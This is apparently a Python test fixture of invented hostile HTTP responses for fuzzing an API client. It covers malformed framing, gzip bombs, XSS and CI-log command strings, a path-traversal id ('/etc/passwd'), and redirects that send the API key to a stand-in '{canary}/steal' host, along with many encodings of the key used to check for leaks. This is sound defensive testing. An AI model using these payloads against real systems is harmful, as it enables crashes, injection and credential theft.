"""Hostile endpoints that were made up beside those that somebody has seen: odd framing, events, JSON, names, keys."""

import base64
import gzip
import html
import json
import re
from collections.abc import Callable, Iterable
from functools import partial
from urllib.parse import quote

import zstandard
from hostile_endpoints import (
    BLOCK,
    BOMB,
    CALL,
    ODD,
    Asked,
    Attack,
    Pieces,
    body_of,
    chunked,
    delta,
    end,
    endless,
    event,
    good,
    kind_of,
    message,
    redirected,
    refusal,
    replaced,
    response,
    slowly,
    start,
    stream_head,
    used,
    with_values,
)

HTML = "<svg/onload=alert(1)>|`*_[x](javascript:alert(2))![](http://127.0.0.1:9/x.png)\n# H\n::error::x\n```"


def _headed(asked: Asked, lines: bytes) -> bytes:
    """A good answer with these lines among its headers, as they are."""
    return good(asked).replace(b"request-id: ", lines + b"\r\nrequest-id: ", 1)


def _events(asked: Asked, body: bytes) -> bytes:
    """This stream, where one was asked for."""
    return response(body, kind=kind_of(asked)) if asked.streams else good(asked)


def _whole(asked: Asked) -> bytes:
    return start() + BLOCK + delta(asked.text) + end()


def _letter_by_letter(body: bytes) -> bytes:
    """The same events, the data of each in a line for each of its parts."""
    return body.replace(b", ", b",\ndata: ")


INVENTIONS: dict[str, Attack] = {
    "header_name_with_a_blank": lambda a: _headed(a, b"x a : b"),
    "header_without_a_name": lambda a: _headed(a, b": b"),
    "header_with_nul": lambda a: _headed(a, b"x-a: b\x00c"),
    "thousands_of_headers": lambda a: _headed(a, b"\r\n".join([b"x: y"] * 5000)),
    "status_without_a_reason": lambda a: good(a).replace(b"200 OK", b"200", 1),
    "status_in_small_letters": lambda a: good(a).replace(b"HTTP/1.1", b"http/1.1", 1),
    "head_of_line_feeds": lambda a: good(a).partition(b"\r\n\r\n")[0].replace(b"\r\n", b"\n") + b"\n\n" + body_of(a),
    "blank_lines_first": lambda a: b"\r\n\r\n" + good(a),
    "chunk_negative": lambda a: stream_head("transfer-encoding: chunked") + b"-5\r\nhello\r\n0\r\n\r\n",
    "chunk_in_python": lambda a: stream_head("transfer-encoding: chunked") + b"0x5\r\nhello\r\n0\r\n\r\n",
    "chunk_too_short": lambda a: stream_head("transfer-encoding: chunked") + b"2\r\nhello\r\n0\r\n\r\n",
    "coding_in_a_chain": lambda a: chunked(a).replace(b"encoding: chunked", b"encoding: gzip, chunked", 1),
    "coding_twice": lambda a: chunked(a, "transfer-encoding: chunked"),
    "length_as_a_list": lambda a: good(a).replace(b"content-length: ", b"content-length: 5, ", 1),
    "trailers_without_end": lambda a: chunked(a, last=b"0\r\n" + b"x-a: b\r\n" * 80_000 + b"\r\n"),
    "encoding_of_no_name": lambda a: response(body_of(a), "content-encoding: ,,", kind=kind_of(a)),
    "gzip_in_pieces": lambda a: response(
        b"".join(gzip.compress(bytes([one])) for one in body_of(a)), "content-encoding: gzip", kind=kind_of(a)
    ),
    "gzip_of_nothing": lambda a: response(
        gzip.compress(b"") * 20_000 + gzip.compress(body_of(a)), "content-encoding: gzip", kind=kind_of(a)
    ),
    "gzip_cut": lambda a: response(gzip.compress(body_of(a))[:-9], "content-encoding: gzip", kind=kind_of(a)),
    "data_in_many_lines": lambda a: _events(a, _letter_by_letter(_whole(a))),
    "data_in_capitals": lambda a: _events(a, _whole(a).replace(b"data: ", b"DATA: ")),
    "data_without_a_colon": lambda a: _events(
        a, _whole(a).replace(b"event: ping", b"").replace(b"\n\n", b"\ndata\n\n")
    ),
    "two_messages": lambda a: _events(a, _whole(a) * 2),
    "a_message_inside_a_message": lambda a: _events(a, start() + BLOCK + _whole(a) + delta(a.text) + end()),
    "index_beyond_all": lambda a: _events(a, _whole(a).replace(b'"index": 0', b'"index": 1000000000000000')),
    "index_below_zero": lambda a: _events(a, _whole(a).replace(b'"index": 0', b'"index": -1')),
    "an_error_after_the_end": lambda a: _events(
        a, _whole(a) + event({"type": "error", "error": {"type": "api_error", "message": HTML}})
    ),
    "json_before_the_stream": lambda a: _events(a, json.dumps(message(a.text)).encode() + b"\n\n" + _whole(a)),
    "keys_of_programs": lambda a: replaced(
        a, b'"role"', b'"__proto__": {"x": 1}, "constructor": 1, "__class__": 1, "role"'
    ),
    "keys_twice_at_the_end": lambda a: replaced(
        a, b'"role"', b", ".join(b'"k%d": 1' % n for n in range(30_000)) + b', "k29999": 1, "role"'
    ),
    "number_next_to_nothing": lambda a: replaced(a, b'"input_tokens": 9', b'"input_tokens": 1e-999999'),
    "number_of_many_digits": lambda a: replaced(a, b'"input_tokens": 9', b'"input_tokens": 0.' + b"1" * 100_000),
    "nested_under_the_limit": lambda a: replaced(a, b'"role"', b'"x": ' + b"[" * 190 + b"]" * 190 + b', "role"'),
    "an_id_that_is_a_path": lambda a: replaced(a, b'"id": "', b'"id": "../../../../etc/passwd#?'),
    "a_page_in_a_message": lambda a: refusal(HTML, type=HTML, request_id=HTML),
    "a_refusal_for_a_browser": lambda a: response(
        b"<html>", 'www-authenticate: Basic realm="\x1b[31m::error::x"', status="401 X", kind="text/html"
    ),
    "cookies_by_the_dozen": lambda a: response(
        body_of(a), *(f"set-cookie: a{n}=b; path=/" for n in range(60)), kind=kind_of(a)
    ),
    "a_place_in_a_good_answer": lambda a: response(body_of(a), f"location: {a.canary}/steal", kind=kind_of(a)),
    "an_upgrade_in_a_good_answer": lambda a: response(
        body_of(a), "connection: upgrade", "upgrade: websocket", kind=kind_of(a)
    ),
    "sent_early": lambda a: b"HTTP/1.1 102 Processing\r\n\r\n" + b"HTTP/1.1 199 X\r\n\r\n" + good(a),
}
"""Those that were made up beside the others: odd framing, odd events, odd JSON, odd names."""


def _drip_of_json(asked: Asked) -> Pieces:
    """A good answer, of which each piece alone is whole: white space, or comments, before its end."""
    body = body_of(asked)
    pieces = [b": x\n\n"] * 60 if asked.streams else [b" "] * 60
    size = len(body) + sum(map(len, pieces))
    return slowly(response(b"", kind=kind_of(asked), length=size), *pieces, body, pause=0.2)


def _key(asked: Asked) -> str:
    """The key of the request."""
    given = re.search(rb"x-api-key: ([^\r\n]*)", asked.raw, re.IGNORECASE)
    return given[1].decode() if given else "no key"


def _spelled(asked: Asked, spellings: Iterable[str]) -> bytes:
    """The key of the request, in some spellings, where the text of a good answer stands, in its id and in a header."""
    spelled = " ".join(SPELLINGS[name](_key(asked)) for name in spellings)
    key = json.dumps(spelled)[1:-1].encode()
    body = body_of(asked).replace(asked.text.encode(), key).replace(b'"id": "msg_', b'"id": "' + key)
    return response(body, f"x-echo: {' '.join(spelled.replace(chr(0), ' ').split())}", kind=kind_of(asked))


def _key_everywhere(asked: Asked) -> bytes:
    """The key in every place of a good answer, and of the head and the trailers around it."""
    key = _key(asked)
    body = body_of(asked).replace(b'"role"', json.dumps(key).encode() + b': 1, "role"', 1)
    for place in (b'"msg_', b'"m"', b'"text"', asked.text.encode()):
        body = body.replace(place, (b'"' if place[:1] == b'"' else b"") + key.encode() + place.lstrip(b'"'))
    lines = [f"HTTP/1.1 200 {key}", f"content-type: {kind_of(asked)}; x={key}", f"request-id: {key}"]
    lines += [f"set-cookie: a={key}", "transfer-encoding: chunked", f"trailer: x-{key}"]
    head = "\r\n".join(lines).encode() + b"\r\n\r\n"
    return head + f"{len(body):x};{key}\r\n".encode() + body + f"\r\n0\r\nx-{key}: {key}\r\n\r\n".encode()


def _key_in_thirds(asked: Asked) -> bytes:
    """The key, a third of it in each delta."""
    key = _key(asked)
    thirds = (key[:9], key[9:18], key[18:])
    return _events(asked, start() + BLOCK + b"".join(map(delta, thirds)) + end())


_ENTITIES = {"_": "&lowbar;", "-": "&#45;", "/": "&sol;", "+": "&plus;", "=": "&equals;", "%": "&percnt;", "&": "&amp;"}

SPELLINGS: dict[str, Callable[[str], str]] = {
    "as it is": lambda key: key,
    "URL": lambda key: quote(key, safe=""),
    "URL in lower case": lambda key: re.sub("%..", lambda escape: escape[0].lower(), quote(key, safe="")),
    "URL, every character": lambda key: "".join(f"%{ord(sign):02x}" for sign in key),
    "URL, twice": lambda key: quote(quote(key, safe=""), safe=""),
    "JSON": lambda key: json.dumps(key)[1:-1],
    "JSON with escaped slashes": lambda key: key.replace("/", "\\/"),
    "JSON, every character": lambda key: "".join(f"\\u{ord(sign):04x}" for sign in key),
    "JSON, every second character": lambda key: "".join(
        f"\\u{ord(sign):04X}" if number % 2 else sign for number, sign in enumerate(key)
    ),
    "JSON in JSON": lambda key: json.dumps(json.dumps("".join(f"\\u{ord(sign):04x}" for sign in key))),
    "a program's escapes": lambda key: "".join(f"\\x{ord(sign):02x}" for sign in key),
    "HTML": lambda key: html.escape(key).replace("/", "&#x2F;"),
    "HTML, every character": lambda key: "".join(f"&#{ord(sign)};" for sign in key),
    "base64": lambda key: base64.b64encode(key.encode()).decode(),
    "base64 without padding": lambda key: base64.b64encode(key.encode()).decode().rstrip("="),
    "base64 for URLs": lambda key: base64.urlsafe_b64encode(key.encode()).decode(),
    "base64 behind a name": lambda key: base64.b64encode(f"user:{key}".encode()).decode(),
    "base64 inside a text": lambda key: base64.b64encode(f"ab{key}, and more".encode()).decode(),
    "base64 in a URL": lambda key: quote(base64.b64encode(key.encode()).decode(), safe=""),
    "a program's braces": lambda key: "".join(f"\\u{{{ord(sign):x}}}" for sign in key),
    "octal": lambda key: "".join(f"\\{ord(sign):03o}" for sign in key),
    "mail": lambda key: "".join(f"={ord(sign):02X}" for sign in key),
    "UTF-16": lambda key: key.encode("utf-16-be").decode(),
    "UTF-32": lambda key: key.encode("utf-32-le").decode(),
    "base64 escaped": lambda key: "".join(f"%{ord(sign):02x}" for sign in base64.b64encode(key.encode()).decode()),
    "hexadecimal backwards": lambda key: key[::-1].encode().hex(),
    "hexadecimal": lambda key: key.encode().hex(),
    "hexadecimal in capitals": lambda key: key.encode().hex().upper(),
    "backwards": lambda key: key[::-1],
    "base64 of it backwards": lambda key: base64.b64encode(key[::-1].encode()).decode(),
    "old URLs": lambda key: _each(key, "%u{:04x}"),
    "URL, percent signs as HTML": lambda key: _each(key, "&#37;{:02X}"),
    "HTML without semicolons": lambda key: _each(key, "&#{}"),
    "HTML, twice": lambda key: _each(key, "&amp;#{};"),
    "HTML, three times": lambda key: html.escape(html.escape(_each(key, "&#x{:x};"))),
    "HTML in a URL": lambda key: quote(_each(key, "&#{};"), safe=""),
    "a URL in HTML in JSON": lambda key: json.dumps(_each(_each(key, "%{:02x}"), "&#{};")),
    "JSON in base64": lambda key: base64.b64encode(_each(key, "\\u{:04x}").encode()).decode(),
    "HTML by names": lambda key: "".join(_ENTITIES.get(sign, sign) for sign in key),
    "Perl": lambda key: _each(key, "\\x{{{:02x}}}"),
    "a style sheet": lambda key: _each(key, "\\{:02x} "),
    "a style sheet, six digits": lambda key: _each(key, "\\{:06x}"),
    "hexadecimal with colons": lambda key: key.encode().hex(":"),
    "hexadecimal with blanks": lambda key: key.encode().hex(" ").upper(),
    "hexadecimal in groups of two": lambda key: key.encode().hex(" ", 2),
    "hexadecimal with prefixes": lambda key: _each(key, "0x{:02x}, "),
    "hexadecimal of hexadecimal": lambda key: key.encode().hex().encode().hex(),
    "an array of codes": lambda key: json.dumps(list(key.encode())),
    "an array of codes, a line each": lambda key: json.dumps(list(key.encode()), indent=1),
    "an array of codes in a string": lambda key: json.dumps(json.dumps(list(key.encode()), indent=1)),
    "octal numbers": lambda key: _each(key, "{:03o} "),
    "binary numbers": lambda key: _each(key, "{:08b} "),
    "base32": lambda key: base64.b32encode(key.encode()).decode(),
    "base32 in small letters": lambda key: base64.b32encode(f"ab{key}".encode()).decode().lower(),
    "base32hex": lambda key: base64.b32hexencode(key.encode()).decode(),
    "base64 of base64": lambda key: base64.b64encode(base64.b64encode(key.encode())).decode(),
    "base64 of hexadecimal": lambda key: base64.b64encode(key.encode().hex().encode()).decode(),
    "base64 of UTF-16": lambda key: base64.b64encode(key.encode("utf-16-le")).decode(),
    "base64 with line breaks": lambda key: base64.encodebytes(b"x" * 40 + key.encode()).decode()[52:],
    "base64 with escaped line breaks": lambda key: json.dumps(_in_lines(b"x" * 40 + key.encode()))[53:],
    "base64, twenty signs a line": lambda key: re.sub("(.{20})", "\\1\r\n ", base64.b64encode(key.encode()).decode()),
    "base64 of base64 with line breaks": lambda key: _in_lines(base64.b64encode(b"x" * 40 + key.encode())),
    "a soft line break": lambda key: f"{key[:9]}=\r\n{key[9:]}",
    "soft line breaks in JSON": lambda key: json.dumps("=\n".join(re.findall("(?s).{1,5}", key)))[1:-1],
    "UTF-16 in JSON": lambda key: json.dumps(key.encode("utf-16-le").decode()),
    "full width": lambda key: _moved(key, 0xFEE0),
    "full width in JSON": lambda key: json.dumps(_moved(key, 0xFEE0))[1:-1],
    "full width in a URL": lambda key: quote(_moved(key, 0xFEE0)),
    "full width in HTML": lambda key: _each(_moved(key, 0xFEE0), "&#x{:x};"),
    "mathematical letters": lambda key: "".join(
        chr(0x1D41A + ord(sign) - 97) if sign.islower() else sign for sign in key
    ),
    "mathematical letters in JSON": lambda key: json.dumps(SPELLINGS["mathematical letters"](key))[1:-1],
    "letters in circles": lambda key: "".join(chr(0x24D0 + ord(sign) - 97) if sign.islower() else sign for sign in key),
    "signs of no look": lambda key: _moved(key, 0xE0000),
    "letters of the other case": str.swapcase,
    "capitals": str.upper,
    "comments of HTML between its signs": "<!-- x -->".join,
    "marks of HTML between its signs": lambda key: "".join(f"<b>{sign}</b>" for sign in key),
    "marks of HTML in JSON": lambda key: "\\u003cbr\\u003e".join(key),
    "marks of HTML between its groups": lambda key: "<wbr/>".join(_groups(key, 7)),
    "parts of XML": lambda key: "]]><![CDATA[".join(_groups(key, 6)),
    "soft hyphens by name": "&shy;".join,
    "blanks that do not break": "\u00a0".join,
    "accents upon its signs": lambda key: "".join(f"{sign}\u0301" for sign in key),
    "variations of its signs": "\ufe0f".join,
    "colours in JSON": lambda key: "\\u001b[31m".join(_groups(key, 6)),
    "groups between blanks": lambda key: " ".join(_groups(key, 4)),
    "groups, a line each": lambda key: "\n".join(_groups(key, 8)),
    "groups that are put together": lambda key: "' + '".join(_groups(key, 6)),
    "signs in brackets": lambda key: "".join(f"[{sign}]" for sign in key),
    "an array of signs in a string": lambda key: json.dumps(json.dumps(list(key))),
    "codes of signs": lambda key: _each(key, "U+{:04X} "),
    "codes of signs for Perl": lambda key: _each(key, "\\N{{U+{:X}}}"),
    "hexadecimal behind letters": lambda key: _each(key, "x{:02x}"),
    "base64 read backwards": lambda key: base64.b64encode(key.encode()).decode()[::-1],
    "hexadecimal read backwards": lambda key: key.encode().hex()[::-1],
    "JSON and HTML by turns": lambda key: "".join(
        f"&#{ord(sign)};" if number % 2 else f"\\u{ord(sign):04x}" for number, sign in enumerate(key)
    ),
    "HTML in JSON": lambda key: _each(key, "\\u0026#{};"),
    "UTF-7": lambda key: "+" + base64.b64encode(key.encode("utf-16-be")).decode().rstrip("=") + "-",
}
LONG_SPELLINGS: dict[str, Callable[[str], str]] = {
    "base85": lambda key: base64.b85encode(key.encode()).decode(),
    "base85 behind a name": lambda key: base64.b85encode(f"name:{key} and more".encode()).decode(),
    "Ascii85": lambda key: base64.a85encode(b"ab" + key.encode(), wrapcol=20).decode(),
    "Ascii85 in JSON": lambda key: json.dumps(base64.a85encode(key.encode()).decode())[1:-1],
}
"""Codings in which what stands beside a key may be taken for a part of it."""


def _in_lines(data: bytes) -> str:
    return base64.encodebytes(data).decode()


def _moved(text: str, by: int) -> str:
    """Each character of a text that ASCII prints by the one that stands so far behind it."""
    return "".join(chr(ord(sign) + by) if "!" <= sign <= "~" else sign for sign in text)


def _groups(text: str, size: int) -> list[str]:
    return [text[first : first + size] for first in range(0, len(text), size)]


def _each(text: str, form: str) -> str:
    """Each character of a text by its code."""
    return "".join(form.format(ord(sign)) for sign in text)


def leaks(text: str, key: str, spelled: str) -> bool:
    """Whether a spelling is still there: of base64 the ends belong to other bytes, too."""
    core = spelled[6:-6]
    return spelled in text or core in text or key in text


OK = b"HTTP/1.1 200 OK\r\n"
SPELLED = {
    "percent_escapes": ("URL, every character",),
    "base64": ("base64 behind a name",),
    "percent_escapes_of_base64": ("base64 escaped",),
    "hexadecimal_backwards": ("hexadecimal backwards",),
    "letters_of_json": ("JSON, every character",),
    "every_spelling": tuple(SPELLINGS),
}
"""How an answer spells the key that it was asked with."""


NEVER_OVER = ("limit: 999999999999999999", "remaining: -0", "reset: 9999-12-31T23:59:59.9-23:59")

MORE: dict[str, Attack] = {
    "drip_of_white_space": _drip_of_json,
    "gzip_twice_and_named_once": lambda a: response(
        gzip.compress(gzip.compress(body_of(a))), "content-encoding: gzip", kind=kind_of(a)
    ),
    "gzip_by_another_name": lambda a: response(gzip.compress(body_of(a)), "content-encoding: x-gzip", kind=kind_of(a)),
    "bomb_behind_a_good_answer": lambda a: response(
        gzip.compress(body_of(a)) + BOMB, "content-encoding: gzip", kind=kind_of(a)
    ),
    "bomb_in_a_refusal": lambda a: response(BOMB, "content-encoding: gzip", status="400 X"),
    "chunk_extensions_by_the_thousand": lambda a: (
        stream_head("transfer-encoding: chunked") + (b"1;" + b"a=b;" * 2000 + b"\r\n:\r\n") * 2000
    ),
    "lengths_that_agree": lambda a: good(a).replace(
        b"request-id: ", b"content-length: %d\r\nrequest-id: " % len(body_of(a)), 1
    ),
    "chunks_and_a_longer_length": lambda a: chunked(a, f"content-length: {len(body_of(a)) + 200}"),
    "hints_with_commands": lambda a: b"HTTP/1.1 103 ::error::x\x1b[31m\r\nlink: \x1b]0;t\x07\r\n\r\n" * 20 + good(a),
    "hints_of_a_megabyte": lambda a: b"HTTP/1.1 103 X\r\nx: " + b"y" * 1_000_000 + b"\r\n\r\n" + good(a),
    "trailers_of_commands": lambda a: chunked(a, last=b"0\r\nx-a: ::error::x\r\nx-b: \x1b[31m\xff\r\n\r\n"),
    "commands_in_headers": lambda a: response(
        body_of(a), "request-id: ::error::x", "server: ##[error]x", "x-a: \x9b31m\t::add-mask::x", kind=kind_of(a)
    ),
    "commands_in_a_stream_error": lambda a: _events(
        a, start() + event({"type": "error", "error": {"type": HTML, "message": ODD}})
    ),
    "ids_by_the_thousand": lambda a: _events(
        a, b"".join(b"id: %d\nretry: 0\n\n" % n for n in range(50_000)) + _whole(a)
    ),
    "nested_in_strings": lambda a: used(a, CALL, json.dumps("[" * 90_000)),
    "nested_in_a_delta": lambda a: used(a, CALL, '{"a":' * 20_000 + "1" + "}" * 20_000),
    "a_redirect_with_the_key": lambda a: redirected(a, 307, "{canary}/steal?key=" + _key(a)),
    "key_everywhere": _key_everywhere,
    "key_in_thirds": _key_in_thirds,
    "key_a_sign_a_header": lambda a: response(body_of(a), *(f"x-sign: {sign}" for sign in _key(a)), kind=kind_of(a)),
    "key_in_names_of_headers": lambda a: response(body_of(a), f"x-{_key(a)}: 1", kind=kind_of(a)),
    "key_a_sign_an_event": lambda a: _events(a, start() + BLOCK + b"".join(map(delta, _key(a))) + end()),
    "key_in_a_refusal": lambda a: refusal(_key(a), type=_key(a), request_id=_key(a)),
    "key_in_a_401": lambda a: refusal(
        "".join(f"\\u{ord(sign):04x}" for sign in _key(a)), "401 " + _key(a), type="authentication_error"
    ),
    "key_in_a_status_line": lambda a: f"HTTP/1.1 {_key(a)} OK\r\n\r\n".encode(),
    "key_in_a_header_line": lambda a: OK + b"x" * 445 + f" {_key(a)}\r\n\r\n".encode(),
    "key_in_no_http": lambda a: f"SSH-2.0-{_key(a)}\r\n".encode(),
    "a_redirect_that_is_a_good_answer": lambda a: good(a).replace(b"200 OK", b"302 X\r\nlocation: /v1/models", 1),
    **{f"key_in_{name}": partial(_spelled, spellings=names) for name, names in SPELLED.items()},
    "nothing_but_nul": lambda a: b"\0" * 100_000,
    "nul_before_an_answer": lambda a: b"\0" + good(a),
    "a_request_in_place_of_an_answer": lambda a: a.raw,
    "an_answer_of_a_proxy": lambda a: b"HTTP/1.1 200 Connection established\r\n\r\n" + good(a),
    "http09_that_never_ends": lambda a: endless(b"", b"<html>::error::x\x1b[31m\n" * 1000),
    "authenticate": lambda a: response(b"", 'www-authenticate: Digest realm="x", nonce="y"', status="401 X"),
    "chunks_of_many_zeros": lambda a: chunked(a, last=b"0" * 16 + b"\r\n\r\n"),
    "chunks_by_another_name": lambda a: chunked(a).replace(
        b"transfer-encoding: chunked", b"Transfer-Encoding: CHUNKED"
    ),
    "chunks_of_chunks": lambda a: chunked(a).replace(b": chunked", b": chunked, chunked"),
    "coding_of_nothing": lambda a: good(a).replace(
        b"content-length:", b"transfer-encoding: identity\r\ncontent-length:", 1
    ),
    "status_behind_blanks": lambda a: good(a).replace(b"HTTP/1.1 ", b"HTTP/1.1    ", 1),
    "types_that_contradict": lambda a: response(body_of(a), "content-type: text/html", kind=kind_of(a)),
    "zstd_unasked": lambda a: response(zstandard.compress(body_of(a)), "content-encoding: zstd", kind=kind_of(a)),
    "gzip_of_another_sum": lambda a: response(
        gzip.compress(body_of(a))[:-8] + bytes(8), "content-encoding: gzip", kind=kind_of(a)
    ),
    "a_part_of_an_answer": lambda a: good(a).replace(b"200 OK", b"206 X\r\ncontent-range: bytes 0-9/9", 1),
    "a_day_that_is_none": lambda a: response(body_of(a), "date: Mon, 00 Jan 0000 00:00:60 -9999", kind=kind_of(a)),
    "limits_that_are_never_over": lambda a: response(
        body_of(a), *(f"anthropic-ratelimit-tokens-{one}" for one in NEVER_OVER), kind=kind_of(a)
    ),
    "num_beyond_64_bits": partial(with_values, value="18446744073709551616"),
    "halves_in_names": lambda a: replaced(a, b'"id": "', b'"id": "\\ud800'),
    "keys_of_nothing": lambda a: replaced(a, b'{"id"', b'{"": {"": [{"": null}]}, "\\u0000": 1, "id"'),
}
"""Those that were made up last: what two of the others do, at once."""
